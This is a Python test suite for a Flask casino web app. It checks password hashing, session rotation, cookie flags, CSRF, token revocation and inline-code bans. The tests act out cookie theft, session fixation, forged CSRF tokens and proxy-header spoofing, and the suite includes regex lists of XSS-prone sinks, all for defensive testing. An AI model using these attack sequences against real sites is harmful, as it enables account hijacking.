"""Security plumbing, each protection shown by a request that would succeed without it:
password hashing, server-side sessions (fixation, logout, password change, lock, expiry),
cookies behind HTTPS, CSRF on every form and API call, login throttling, headers and
templates without inline code, redirects only to this site, and errors without tracebacks.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import math
import re
import shutil
import sqlite3
from collections.abc import Callable
from datetime import UTC
from datetime import datetime
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from argon2 import PasswordHasher
from argon2 import extract_parameters
from flask import Flask
from flask.testing import FlaskClient
from markupsafe import escape
from operator_support import CSRF
from operator_support import add_user
from operator_support import audit_size
from operator_support import bearer
from operator_support import client_as
from operator_support import db
from sqlalchemy import func
from sqlalchemy import select
from sqlalchemy import update
from web_support import CSRF_META
from web_support import PASSWORD
from web_support import api_register
from web_support import csrf_token
from web_support import post_form
from web_support import register_page

from sota_casino import config
from sota_casino.factory import create_app
from sota_casino.models import AuditEntry
from sota_casino.models import LoginAttempt
from sota_casino.models import Signup
from sota_casino.models import User
from sota_casino.models import UserSession
from sota_casino.services import accounts
from sota_casino.web.openapi import openapi_document

ROOT = Path(__file__).resolve().parents[2]

CSP = (
    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "frame-ancestors 'none'; base-uri 'none'; form-action 'self'"
)


def session_cookie(client: FlaskClient) -> str:
    cookie = client.get_cookie("session")
    assert cookie is not None
    return cookie.value


def copy_of(app: Flask, cookie: str) -> FlaskClient:
    """Another browser holding a copy of ``cookie`` (a stolen or planted cookie)."""
    thief = app.test_client()
    thief.set_cookie("session", cookie)
    return thief


def is_logged_out(client: FlaskClient) -> bool:
    """Tell whether this browser's cookie no longer opens the lobby or the API."""
    page = client.get("/lobby")
    api = client.get("/api/v1/me")
    return page.status_code == 303 and "/auth/login" in page.location and api.status_code == 401


def _assert_held_off(answer: Any, message: str, soonest: int, latest: int) -> None:
    """The API held the caller off: a 429 saying ``message``, to retry in ``soonest`` to
    ``latest`` seconds."""
    assert answer.status_code == 429
    assert answer.get_json()["error"] == {"code": "rate_limited", "message": message}
    assert soonest <= int(answer.headers["Retry-After"]) <= latest


# --- passwords ----------------------------------------------------------------------------------


@pytest.mark.owasp_hashing
def test_passwords_are_stored_as_argon2id_with_the_owasp_parameters(
    app: Flask, client: FlaskClient
) -> None:
    register_page(client, "alice")
    session = db(app)
    try:
        stored = session.scalars(select(User.password_hash)).one()
    finally:
        session.close()
    # OWASP: argon2id, 19 MiB of memory, 2 iterations, 1 degree of parallelism.
    assert stored.startswith("$argon2id$v=19$m=19456,t=2,p=1$")
    assert PasswordHasher().verify(stored, PASSWORD)


@pytest.mark.owasp_hashing
def test_a_login_with_an_unknown_name_checks_a_hash_as_costly_as_a_players(
    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A wrong name must take as long as a wrong password: the stand-in hash checked for it has
    the parameters a player's password is hashed with."""
    checked: list[str] = []
    matches = accounts._password_matches

    def spy(password_hash: str, password: str) -> bool:
        checked.append(password_hash)
        return matches(password_hash, password)

    monkeypatch.setattr(accounts, "_password_matches", spy)
    answer = client.post("/api/v1/auth/token", json={"username": "nobody", "password": PASSWORD})
    assert answer.status_code == 401
    assert checked == [accounts.STAND_IN_HASH]
    players = extract_parameters(accounts.HASHER.hash(PASSWORD))
    assert extract_parameters(accounts.STAND_IN_HASH) == players


def test_no_password_is_ever_logged_audited_or_stored_in_clear(
    app: Flask, client: FlaskClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    wrong, new = "my wrong guess 42", "a brand new passphrase"
    register_page(client, "alice")
    post_form(client, "/auth/logout")
    post_form(client, "/auth/login", {"username": "alice", "password": wrong})
    post_form(client, "/auth/login", {"username": "alice", "password": PASSWORD})
    post_form(client, "/auth/password", {"old": PASSWORD, "new": new, "confirm": new})
    client.post("/api/v1/auth/token", json={"username": "alice", "password": wrong})
    client.post("/api/v1/auth/token", json={"username": "alice", "password": new})
    client.post("/api/v1/auth/register", json={"username": "bob", "password": PASSWORD})
    database = app.config["DATABASE_URL"].removeprefix("sqlite:///")
    with sqlite3.connect(database) as connection:
        dump = "\n".join(connection.iterdump())  # every row of every table, audit log included
    assert "user.login_failed" in dump and "user.password_changed" in dump
    for secret in (PASSWORD, wrong, new):
        assert secret not in caplog.text, secret
        assert secret not in dump, secret
        assert secret not in session_cookie(client), secret


def test_a_password_typed_into_the_name_field_is_not_kept_in_the_audit_log(
    app: Flask, client: FlaskClient
) -> None:
    # A common slip: the password goes into the name field. The log keeps every entry for
    # good and shows them to auditors, in the console and its exports.
    register_page(client, "alice")
    post_form(client, "/auth/logout")
    post_form(client, "/auth/login", {"username": PASSWORD, "password": "alice"})
    client.post("/api/v1/auth/token", json={"username": PASSWORD, "password": "alice"})
    post_form(client, "/auth/login", {"username": "ALICE", "password": "a wrong guess"})
    auditor = client_as(app, add_user(app, "audrey", "auditor"))
    page = auditor.get("/operator/audit").get_data(as_text=True)
    export = auditor.get("/api/v1/operator/audit/export").get_data(as_text=True)
    assert export.count("user.login_failed") == 3
    assert PASSWORD not in page and PASSWORD not in export
    # A failure on a real account still names it (its own name, however it was typed).
    session = db(app)
    try:
        failures = [
            e.data
            for e in session.scalars(
                select(AuditEntry).where(AuditEntry.action == "user.login_failed")
            )
        ]
    finally:
        session.close()
    assert [json.loads(f)["username"] for f in failures] == [None, None, "alice"]


# --- sessions -----------------------------------------------------------------------------------


def test_every_kind_of_response_carries_the_security_headers(player: FlaskClient) -> None:
    for url in ("/lobby", "/api/v1/me", "/static/casino.css", "/no-such-page", "/api/v1/nope"):
        with player.get(url) as response:
            assert response.headers["Content-Security-Policy"] == CSP, url
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert response.headers["X-Frame-Options"] == "DENY"
            assert response.headers["Referrer-Policy"] == "same-origin"
            assert "Strict-Transport-Security" not in response.headers


def test_no_answer_but_a_public_file_may_be_kept_in_a_shared_cache(player: FlaskClient) -> None:
    """Pages, API answers and error pages show balances and seeds: ``no-store``. Only files
    that hold no secret, the same for everyone, may be kept: a static file or a language's words
    for the scripts (for a year when its address names its content) and the standalone
    verifier, each checked again each time otherwise (``no-cache``)."""
    for url in ("/lobby", "/fairness", "/api/v1/me", "/api/v1/me/keys", "/no-such-page"):
        with player.get(url) as response:
            assert response.headers["Cache-Control"] == "no-store", url
    for url in ("/api/v1/nope", "/api/v1/fairness/seed-pair", "/api/v1/openapi.json"):
        with player.get(url) as response:
            assert response.headers["Cache-Control"] == "no-store", url
    for url in ("/static/casino.css", "/language/fi.js", "/fairness/verify.pyz"):
        with player.get(url) as response:
            assert response.status_code == 200, url
            assert response.headers["Cache-Control"] == "no-cache", url
    page = player.get("/lobby").get_data(as_text=True)
    named = re.search(r'href="(/static/casino\.css\?[^"]+)"', page)
    assert named is not None
    with player.get(named[1].replace("&amp;", "&")) as response:
        assert response.headers["Cache-Control"] == "public, max-age=31536000, immutable"


def test_an_options_answer_on_the_api_carries_the_security_headers_too(
    client: FlaskClient,
) -> None:
    """The API answers ``OPTIONS`` with its own JSON, which once replaced the answer the
    security headers had been added to."""
    for url in ("/api/v1/me", "/api/v1/casino-war/rounds", "/api/v1/openapi.json", "/lobby"):
        response = client.options(url, base_url="https://casino.example")
        assert response.status_code == 200, url
        assert response.headers["Content-Security-Policy"] == CSP, url
        assert response.headers["X-Content-Type-Options"] == "nosniff", url
        assert response.headers["X-Frame-Options"] == "DENY", url
        assert response.headers["Referrer-Policy"] == "same-origin", url
        assert response.headers["Cache-Control"] == "no-store", url
        assert response.headers["Strict-Transport-Security"].startswith("max-age="), url
    api = client.options("/api/v1/me")
    assert api.get_json() == {"allow": ["GET", "HEAD", "OPTIONS"]}
    assert api.headers["Allow"] == "GET, HEAD, OPTIONS"


def test_hsts_is_sent_only_over_https(client: FlaskClient) -> None:
    response = client.get("/", base_url="https://casino.example")
    assert response.headers["Strict-Transport-Security"].startswith("max-age=")


def test_pages_have_no_inline_scripts_or_styles(player: FlaskClient) -> None:
    for url in ("/", "/lobby", "/casino-war", "/sota", "/history", "/fairness", "/auth/password"):
        page = player.get(url).get_data(as_text=True)
        assert "style=" not in page, url
        assert "<script>" not in page and "onclick" not in page, url
        for tag in page.split("<script")[1:]:
            assert 'src="' in tag.split(">")[0] or 'type="application/json"' in tag, url


#: What the Content-Security-Policy would block, so no template or script may contain it.
INLINE_CODE = {
    "a style attribute": re.compile(r"\sstyle\s*=", re.I),
    "a <style> element": re.compile(r"<style[\s>]", re.I),
    "an event handler attribute": re.compile(r"\son[a-z]+\s*=", re.I),
    "a javascript: URL": re.compile(r"javascript:", re.I),
}
#: What would put markup or code into a page from a script, bypassing escaping.
UNSAFE_SCRIPT = re.compile(
    r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|"
    r"setAttribute\(\s*[\"'](style|on)",
)


def test_no_template_holds_inline_code_or_styles() -> None:
    templates = sorted((ROOT / "sota_casino" / "templates").rglob("*.html"))
    assert len(templates) >= 20
    for path in templates:
        source = path.read_text()
        for what, pattern in INLINE_CODE.items():
            assert not pattern.search(source), f"{path.name} has {what}"
        for tag in re.findall(r"<script\b[^>]*>", source, re.I):
            # Scripts come from files; the only inline block is JSON data, which never runs.
            assert " src=" in tag or 'type="application/json"' in tag, f"{path.name}: {tag}"


def test_no_script_writes_markup_or_inline_styles() -> None:
    scripts = sorted((ROOT / "sota_casino" / "static").rglob("*.js"))
    assert len(scripts) >= 4
    for path in scripts:
        found = UNSAFE_SCRIPT.search(path.read_text())
        assert found is None, f"{path.name} uses {found and found.group(0)}"


def test_a_form_without_its_csrf_token_is_refused_with_400(player: FlaskClient) -> None:
    for url, data in (
        ("/casino-war/rounds", {"bet": "5"}),
        ("/sota/games", {"stake": "1", "preset": "nordic"}),
        ("/fairness/rotate", {}),
        ("/lobby/topup", {"currency": "chips"}),
        ("/auth/logout", {}),
        ("/auth/password", {"old": PASSWORD, "new": "x" * 12, "confirm": "x" * 12}),
    ):
        response = player.post(url, data=data)
        assert response.status_code == 400, url
        assert "security token" in response.get_data(as_text=True)
    assert player.get("/lobby").status_code == 200  # still logged in: nothing happened


def test_a_wrong_csrf_token_is_refused_too(client: FlaskClient) -> None:
    csrf_token(client)
    response = client.post(
        "/auth/register",
        data={
            "csrf_token": "forged",
            "username": "mallory",
            "password": PASSWORD,
            "confirm": PASSWORD,
        },
    )
    assert response.status_code == 400
    login = client.post("/api/v1/auth/token", json={"username": "mallory", "password": PASSWORD})
    assert login.status_code == 401  # the account was never made


def test_session_cookie_is_httponly_and_samesite_lax(client: FlaskClient) -> None:
    response = client.get("/auth/login")
    header = response.headers["Set-Cookie"]
    assert "HttpOnly" in header and "SameSite=Lax" in header and "Secure" not in header


def test_session_cookie_is_secure_when_the_environment_says_so(
    migrated_template: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert config.from_environment({"SESSION_COOKIE_SECURE": "1"})["SESSION_COOKIE_SECURE"]
    assert not config.from_environment({"SESSION_COOKIE_SECURE": "0"})["SESSION_COOKIE_SECURE"]
    shutil.copy(migrated_template, tmp_path / "env.db")
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'env.db'}")
    monkeypatch.setenv("SECRET_KEY", "from-the-environment")
    monkeypatch.setenv("SIGNING_KEY_FILE", str(tmp_path / "key.pem"))
    monkeypatch.setenv("SESSION_COOKIE_SECURE", "1")
    monkeypatch.setenv("CHECK_INTERVAL_SECONDS", "0")
    app = create_app()
    try:
        header = app.test_client().get("/auth/login").headers["Set-Cookie"]
    finally:
        app.extensions["sota_casino.engine"].dispose()
    assert "; Secure" in header and "HttpOnly" in header and "SameSite=Lax" in header


def test_behind_a_trusted_https_proxy_the_cookie_is_secure_and_hsts_is_sent(
    make_app: Any,
) -> None:
    via_proxy = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.7"}
    trusted = make_app(TRUSTED_PROXIES=1).test_client().get("/auth/login", headers=via_proxy)
    assert "; Secure" in trusted.headers["Set-Cookie"]
    assert trusted.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    # Without TRUSTED_PROXIES anyone could send that header: it must change nothing.
    spoofed = make_app().test_client().get("/auth/login", headers=via_proxy)
    assert "Secure" not in spoofed.headers["Set-Cookie"]
    assert "Strict-Transport-Security" not in spoofed.headers


def test_a_direct_https_request_gets_a_secure_cookie(client: FlaskClient) -> None:
    header = client.get("/auth/login", base_url="https://casino.example").headers["Set-Cookie"]
    assert "; Secure" in header


HTTPS = "https://casino.example"


def https_login(client: FlaskClient, username: str) -> str:
    """Log ``username`` in over HTTPS; return the session cookie's Set-Cookie header."""
    page = client.get("/auth/login", base_url=HTTPS)
    token = CSRF_META.search(page.get_data(as_text=True))
    assert token is not None
    login = client.post(
        "/auth/login",
        data={"csrf_token": token.group(1), "username": username, "password": PASSWORD},
        base_url=HTTPS,
    )
    assert login.status_code == 303 and login.location == "/lobby"
    return next(h for h in login.headers.getlist("Set-Cookie") if "session=" in h)


def test_over_https_the_session_cookie_is_bound_to_the_host(client: FlaskClient) -> None:
    # A sibling host (shop.casino.example) may set cookies for the whole domain, and a page over
    # plain HTTP may set ones named like the secure ones: only a __Host- cookie is safe from both.
    api_register(client, "alice")
    header = https_login(client, "alice")
    assert header.startswith("__Host-session=")
    assert "; Secure" in header and "; Path=/" in header and "Domain" not in header
    assert client.get_cookie("session", domain="casino.example") is None
    assert client.get("/lobby", base_url=HTTPS).status_code == 200
    # Plain HTTP keeps the plain name: a browser sets no Secure cookie from an HTTP page.
    assert client.get("/auth/login").headers["Set-Cookie"].startswith("session=")


def test_over_https_a_cookie_tossed_from_another_host_logs_nobody_in(
    app: Flask, client: FlaskClient
) -> None:
    api_register(client, "mallory")
    https_login(client, "mallory")
    attackers = client.get_cookie("__Host-session", domain="casino.example")
    assert attackers is not None
    # The attacker's own logged-in session, set by a sibling host as a domain cookie under the
    # names a browser would accept from it: the victim must not be logged in as the attacker
    # (whose records would then hold the victim's play).
    victim = app.test_client()
    victim.set_cookie("session", attackers.value, domain=".casino.example")
    lobby = victim.get("/lobby", base_url=HTTPS)
    assert lobby.status_code == 303 and "/auth/login" in lobby.location
    assert victim.get("/api/v1/me", base_url=HTTPS).status_code == 401


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_the_language_cookie_is_secure_where_the_session_cookie_is(
    app: Flask, client: FlaskClient, scheme: str
) -> None:
    base_url = f"{scheme}://casino.example"
    page = client.get("/auth/login", base_url=base_url)
    token = CSRF_META.search(page.get_data(as_text=True))
    assert token is not None
    chosen = client.post(
        "/language", data={"csrf_token": token.group(1), "locale": "fi"}, base_url=base_url
    )
    assert chosen.status_code == 303
    name = "__Host-lang=" if scheme == "https" else "lang="
    cookie = next(h for h in chosen.headers.getlist("Set-Cookie") if h.startswith(name))
    assert ("; Secure" in cookie) == (scheme == "https")
    assert "; Path=/" in cookie and "Domain" not in cookie
    # Pages read the language from that cookie, under that name alone.
    other_name = "lang" if scheme == "https" else "__Host-lang"
    for cookie_name, language in ((name.rstrip("="), "fi"), (other_name, "en")):
        browser = app.test_client()
        browser.set_cookie(cookie_name, "fi", domain="casino.example")
        page = browser.get("/auth/login", base_url=base_url).get_data(as_text=True)
        assert f'<html lang="{language}"' in page, cookie_name


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_signing_up_keeps_the_language_of_the_cookie_the_pages_read(
    app: Flask, scheme: str
) -> None:
    """The sign-up form keeps the picker's language with the account: over HTTPS from the
    host-bound cookie the picker set, never from a plain ``lang`` cookie that a sibling host
    or a page over plain HTTP may have tossed in."""
    base_url = f"{scheme}://casino.example"
    browser = app.test_client()
    browser.set_cookie(
        "lang" if scheme == "https" else "__Host-lang", "pt", domain=".casino.example"
    )
    page = browser.get("/auth/register", base_url=base_url).get_data(as_text=True)
    token = CSRF_META.search(page)
    assert token is not None
    picked = {"csrf_token": token.group(1), "locale": "fi", "next": "/auth/register"}
    assert browser.post("/language", data=picked, base_url=base_url).status_code == 303
    form = {"csrf_token": token.group(1), "username": "aino"}
    signed_up = browser.post(
        "/auth/register",
        data={**form, "password": PASSWORD, "confirm": PASSWORD},
        base_url=base_url,
    )
    assert signed_up.status_code == 303
    with db(app) as session:
        assert session.scalars(select(User.locale).where(User.username == "aino")).one() == "fi"


def test_logging_in_changes_the_session_id(client: FlaskClient) -> None:
    register_page(client, "alice")
    with client.session_transaction() as session:
        first, first_csrf = session["sid"], session["csrf"]
    post_form(client, "/auth/logout")
    post_form(client, "/auth/login", {"username": "alice", "password": PASSWORD})
    with client.session_transaction() as session:
        assert session["sid"] != first
        assert session["csrf"] != first_csrf


def test_a_cookie_planted_before_login_gives_the_attacker_nothing_afterwards(
    app: Flask, client: FlaskClient
) -> None:
    api_register(client, "alice")
    # The attacker takes a fresh anonymous cookie (and the CSRF token it carries)...
    attacker = app.test_client()
    attacker.get("/auth/login")
    planted, known_token = session_cookie(attacker), csrf_token(attacker)
    # ... plants it in the victim's browser, and the victim logs in with it.
    client.set_cookie("session", planted)
    login = client.post(
        "/auth/login",
        data={"csrf_token": known_token, "username": "alice", "password": PASSWORD},
    )
    assert login.status_code == 303 and login.location == "/lobby"
    assert is_logged_out(copy_of(app, planted))
    # A forged form with the token the attacker knows is refused in the victim's session.
    forged = client.post("/casino-war/rounds", data={"csrf_token": known_token, "bet": "5"})
    assert forged.status_code == 400
    assert client.get("/api/v1/rounds").get_json()["rounds"] == []


def test_logging_in_again_ends_the_session_the_browser_had(app: Flask, player: FlaskClient) -> None:
    before = session_cookie(player)
    with player.session_transaction() as session:
        first = session["sid"]
    post_form(player, "/auth/login", {"username": "alice", "password": PASSWORD})
    with player.session_transaction() as session:
        assert session["sid"] != first
    assert player.get("/lobby").status_code == 200
    assert is_logged_out(copy_of(app, before))


def test_a_copied_cookie_stops_working_after_logout(app, player: FlaskClient) -> None:  # type: ignore[no-untyped-def]
    stolen = session_cookie(player)
    assert post_form(player, "/auth/logout").status_code == 303
    thief = app.test_client()
    thief.set_cookie("session", stolen)
    page = thief.get("/lobby")
    assert page.status_code == 303 and "/auth/login" in page.location
    api = thief.get("/api/v1/me")
    assert api.status_code == 401
    assert api.get_json()["error"]["code"] == "unauthorized"


def test_changing_the_password_ends_other_sessions_and_tokens(app, player: FlaskClient) -> None:  # type: ignore[no-untyped-def]
    other = app.test_client()
    other.set_cookie("session", session_cookie(player))
    token = player.post(
        "/api/v1/auth/token", json={"username": "alice", "password": PASSWORD}
    ).get_json()["token"]
    new = "a brand new passphrase"
    response = post_form(player, "/auth/password", {"old": PASSWORD, "new": new, "confirm": new})
    assert response.status_code == 303
    assert player.get("/lobby").status_code == 200  # this browser got a fresh session
    assert other.get("/lobby").status_code == 303
    headers = {"Authorization": f"Bearer {token}"}
    assert player.get("/api/v1/me", headers=headers).status_code == 401


NEW_PASSWORD = "a brand new passphrase"


def meanwhile(monkeypatch: pytest.MonkeyPatch, action: Callable[[], None]) -> None:
    """Run ``action`` (another worker's request) once, while the next password check runs: the
    hash is checked outside any transaction, for tens of milliseconds."""
    check = accounts._password_matches

    def checking(password_hash: str, password: str) -> bool:
        matched = check(password_hash, password)
        monkeypatch.setattr(accounts, "_password_matches", check)
        action()
        return matched

    monkeypatch.setattr(accounts, "_password_matches", checking)


def change_password(app: Flask, username: str, old: str, new: str) -> None:
    """The owner changes the password from another browser, served by another worker."""
    session = db(app)
    try:
        user = accounts.find_users(session, username)[0]
        accounts.change_password(session, user.id, old, new, address="192.0.2.1")
    finally:
        session.close()


def live_sessions(app: Flask) -> int:
    session = db(app)
    try:
        return session.scalar(
            select(func.count())
            .select_from(UserSession)
            .where(UserSession.ended_at.is_(None), UserSession.expires_at > datetime.now(UTC))
        )
    finally:
        session.close()


def logs_in(app: Flask, password: str) -> bool:
    answer = app.test_client().post(
        "/api/v1/auth/token", json={"username": "alice", "password": password}
    )
    return answer.status_code == 200


@pytest.mark.parametrize("way", ["page", "api"])
def test_a_login_checked_while_the_password_changes_starts_nothing_the_change_misses(
    app: Flask, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    # The owner changes a leaked password while the thief's login with it is being checked.
    api_register(app.test_client(), "alice")
    meanwhile(monkeypatch, lambda: change_password(app, "alice", PASSWORD, NEW_PASSWORD))
    thief = app.test_client()
    if way == "page":
        login = post_form(thief, "/auth/login", {"username": "alice", "password": PASSWORD})
        assert login.status_code == 401
        assert is_logged_out(thief)
    else:
        login = thief.post("/api/v1/auth/token", json={"username": "alice", "password": PASSWORD})
        assert login.status_code == 401 and "token" not in login.get_json()
    assert live_sessions(app) == 0
    assert not logs_in(app, PASSWORD) and logs_in(app, NEW_PASSWORD)


def _store_a_hash_of_older_parameters(app: Flask) -> str:
    """Store alice's password hashed with cheaper parameters than the present ones; return it."""
    older = PasswordHasher(time_cost=1, memory_cost=16, parallelism=1).hash(PASSWORD)
    session = db(app)
    with session.begin():
        session.execute(update(User).values(password_hash=older))
    session.close()
    return older


def test_a_login_racing_a_change_does_not_put_the_old_password_back(
    app: Flask, monkeypatch: pytest.MonkeyPatch
) -> None:
    api_register(app.test_client(), "alice")
    # A hash of parameters since replaced: the next login with its password stores a new one.
    _store_a_hash_of_older_parameters(app)
    meanwhile(monkeypatch, lambda: change_password(app, "alice", PASSWORD, NEW_PASSWORD))
    assert not logs_in(app, PASSWORD)
    assert logs_in(app, NEW_PASSWORD) and not logs_in(app, PASSWORD)


def test_a_password_change_checked_while_another_change_applies_is_refused(
    app: Flask, player: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A thief holding a copy of the cookie and the leaked password changes it first, while the
    # owner's own change is being checked: the owner's is refused, not applied over the thief's
    # after every session (the thief's too) was ended.
    thiefs = "the thief's own secret"
    meanwhile(monkeypatch, lambda: change_password(app, "alice", PASSWORD, thiefs))
    new = NEW_PASSWORD
    owner = post_form(player, "/auth/password", {"old": PASSWORD, "new": new, "confirm": new})
    assert owner.status_code == 401
    assert "current password is wrong" in read(player, owner)
    assert logs_in(app, thiefs) and not logs_in(app, NEW_PASSWORD)


def test_a_login_with_a_hash_of_older_parameters_stores_one_of_the_present_ones(
    app: Flask,
) -> None:
    api_register(app.test_client(), "alice")
    older = _store_a_hash_of_older_parameters(app)
    session = db(app)
    assert logs_in(app, PASSWORD)
    stored = session.scalar(select(User.password_hash))
    session.close()
    assert stored != older and not accounts.HASHER.check_needs_rehash(stored)
    assert logs_in(app, PASSWORD)


def test_locking_an_account_ends_its_sessions_and_tokens(app: Flask, player: FlaskClient) -> None:
    copied = copy_of(app, session_cookie(player))
    token = player.post(
        "/api/v1/auth/token", json={"username": "alice", "password": PASSWORD}
    ).get_json()["token"]
    alice = player.get("/api/v1/me").get_json()["user"]["id"]
    operator = client_as(app, add_user(app, "olga", "operator"))
    locked = operator.post(
        f"/operator/players/{alice}/lock", data={"csrf_token": CSRF, "locked": "1"}
    )
    assert locked.status_code == 303
    assert is_logged_out(player) and is_logged_out(copied)
    api = player.get("/api/v1/me", headers={"Authorization": f"Bearer {token}"})
    assert api.status_code in (401, 403)
    again = post_form(player, "/auth/login", {"username": "alice", "password": PASSWORD})
    assert again.status_code == 403 and "locked" in again.get_data(as_text=True)
    assert is_logged_out(player)


def test_an_expired_session_or_token_stops_working(app: Flask, player: FlaskClient) -> None:
    token = player.post(
        "/api/v1/auth/token", json={"username": "alice", "password": PASSWORD}
    ).get_json()["token"]
    headers = {"Authorization": f"Bearer {token}"}
    assert player.get("/lobby").status_code == 200
    assert player.get("/api/v1/me", headers=headers).status_code == 200
    session = db(app)
    with session.begin():
        session.execute(
            update(UserSession).values(expires_at=datetime.now(UTC) - timedelta(seconds=1))
        )
    session.close()
    assert is_logged_out(player)
    assert player.get("/api/v1/me", headers=headers).status_code == 401


@pytest.mark.parametrize(("hours", "kept"), [(12, True), (6, True), (4, False)])
def test_a_lifetime_lowered_at_a_restart_ends_the_sessions_and_tokens_older_than_it(
    make_app: Any, hours: int, kept: bool
) -> None:
    """A session or token kept the lifetime it was given: an operator who lowered
    ``SESSION_HOURS`` and ``TOKEN_HOURS`` after a breach and restarted still had every session
    of the old lifetime open. Each now ends once it is older than the lifetime in force."""
    first = make_app()
    browser = first.test_client()
    register_page(browser, "alice")
    token = browser.post(
        "/api/v1/auth/token", json={"username": "alice", "password": PASSWORD}
    ).get_json()["token"]
    session = db(first)
    with session.begin():  # both began five hours ago, under lifetimes of 12 and 24 hours
        for row in session.scalars(select(UserSession)):
            row.created_at -= timedelta(hours=5)
            row.expires_at -= timedelta(hours=5)
    session.close()
    restarted = make_app(SESSION_HOURS=hours, TOKEN_HOURS=hours).test_client()
    cookie = browser.get_cookie("session")
    assert cookie is not None
    restarted.set_cookie("session", cookie.value)
    headers = {"Authorization": f"Bearer {token}"}
    assert is_logged_out(restarted) is not kept
    assert restarted.get("/api/v1/me", headers=headers).status_code == (200 if kept else 401)


def session_rows(app: Flask) -> int:
    session = db(app)
    try:
        return session.scalar(select(func.count()).select_from(UserSession)) or 0
    finally:
        session.close()


def test_logging_in_over_and_over_keeps_no_more_sessions_than_the_limit(make_app: Any) -> None:
    app = make_app(SESSIONS_PER_ACCOUNT=3)
    browser = app.test_client()
    register_page(browser, "alice")
    for _ in range(3):  # sessions that end open nothing again
        post_form(browser, "/auth/logout")
        post_form(browser, "/auth/login", {"username": "alice", "password": PASSWORD})
    assert session_rows(app) == 1
    tokens = [api_token(app.test_client()) for _ in range(5)]  # a script, logging in each run
    assert session_rows(app) == 3
    answers = [browser.get("/api/v1/me", headers=token).status_code for token in tokens]
    assert answers == [401, 401, 200, 200, 200]  # the oldest went, the browser's first
    assert is_logged_out(browser)
    assert (
        app.test_client()
        .post(  # nobody is refused a login
            "/api/v1/auth/token", json={"username": "alice", "password": PASSWORD}
        )
        .status_code
        == 200
    )


def api_token(client: FlaskClient, username: str = "alice") -> dict[str, str]:
    """The Authorization header of a new API token of ``username``."""
    issued = client.post("/api/v1/auth/token", json={"username": username, "password": PASSWORD})
    assert issued.status_code == 200, issued.get_json()
    return {"Authorization": f"Bearer {issued.get_json()['token']}"}


#: A value for each path parameter that is not an id.
SAMPLE_PATH = {"{name}": "casino_war"}


def calls_needing_credentials(app: Flask) -> list[tuple[str, str]]:
    """(method, URL) of every API operation that asks for credentials, its path filled in."""
    document = openapi_document(app)
    return [
        (method, "/api/v1" + re.sub(r"{\w+}", lambda m: SAMPLE_PATH.get(m[0], "1"), path))
        for path, methods in document["paths"].items()
        for method, op in methods.items()
        if op["security"]
    ]


def test_revoking_a_token_ends_that_token_alone(app: Flask, player: FlaskClient) -> None:
    leaked, other = api_token(player), api_token(player)
    revoked = player.delete("/api/v1/auth/token", headers=leaked)
    assert revoked.status_code == 204
    assert revoked.get_data() == b"" and "Content-Type" not in revoked.headers
    calls = calls_needing_credentials(app)
    assert len(calls) >= 40
    for method, url in calls:
        response = player.open(url, method=method, json={}, headers=leaked)
        assert response.status_code == 401, (method, url, response.get_json())
        assert response.get_json()["error"]["message"] == accounts.INVALID_TOKEN
    # The account's other token and the browser's session go on.
    assert player.get("/api/v1/me", headers=other).status_code == 200
    assert player.get("/api/v1/me").status_code == 200
    assert player.get("/lobby").status_code == 200
    assert player.delete("/api/v1/auth/token", headers=other).status_code == 204


def test_an_unknown_ended_or_expired_token_revokes_nothing(app: Flask, player: FlaskClient) -> None:
    token, spent = api_token(player), api_token(player)
    assert player.delete("/api/v1/auth/token", headers=spent).status_code == 204
    session = db(app)
    with session.begin():
        ended_before = session.scalar(
            select(func.count(UserSession.id)).where(UserSession.ended_at.is_not(None))
        )
        session.execute(
            update(UserSession)
            .where(UserSession.kind == "api", UserSession.ended_at.is_(None))
            .values(expires_at=datetime.now(UTC) - timedelta(seconds=1))
        )
    session.close()
    for headers in (spent, token, {"Authorization": "Bearer not-a-token"}):
        response = player.delete("/api/v1/auth/token", headers=headers)
        assert response.status_code == 401, headers
        assert response.get_json()["error"]["message"] == accounts.INVALID_TOKEN
        assert response.headers["WWW-Authenticate"] == "Bearer"
    session = db(app)
    try:
        ended = session.scalar(
            select(func.count(UserSession.id)).where(UserSession.ended_at.is_not(None))
        )
    finally:
        session.close()
    assert ended == ended_before == 1
    assert player.get("/lobby").status_code == 200


def test_a_session_cookie_revokes_no_token_even_with_its_csrf_header(
    app: Flask, player: FlaskClient
) -> None:
    token = api_token(player)
    for headers in ({}, {"X-CSRF-Token": csrf_token(player)}):
        response = player.delete("/api/v1/auth/token", headers=headers)
        assert response.status_code == 401, headers
        message = response.get_json()["error"]["message"]
        assert "revokes the bearer token it is sent with" in message
    assert client_as(app, None).delete("/api/v1/auth/token").status_code == 401
    session = db(app)
    try:
        ended = session.scalars(select(UserSession).where(UserSession.ended_at.is_not(None)))
        assert ended.all() == []
    finally:
        session.close()
    assert player.get("/api/v1/me", headers=token).status_code == 200
    assert player.get("/lobby").status_code == 200


def test_revoking_a_token_is_not_audited_and_leaves_its_text_nowhere(
    app: Flask, player: FlaskClient, caplog: pytest.LogCaptureFixture
) -> None:
    # As a logout: ending a credential is not audited (issuing it was, as user.login).
    caplog.set_level(logging.DEBUG)
    headers = api_token(player)
    token = headers["Authorization"].removeprefix("Bearer ")
    before = audit_size(app)
    assert player.delete("/api/v1/auth/token", headers=headers).status_code == 204
    assert player.delete("/api/v1/auth/token", headers=headers).status_code == 401
    assert audit_size(app) == before
    database = app.config["DATABASE_URL"].removeprefix("sqlite:///")
    with sqlite3.connect(database) as connection:
        dump = "\n".join(connection.iterdump())
    assert token not in caplog.text
    assert token not in dump


def changing_rules(app: Flask, api: bool) -> list[Any]:
    """Every route and method that may change something, of the pages or of the API."""
    return [
        (rule, method)
        for rule in app.url_map.iter_rules()
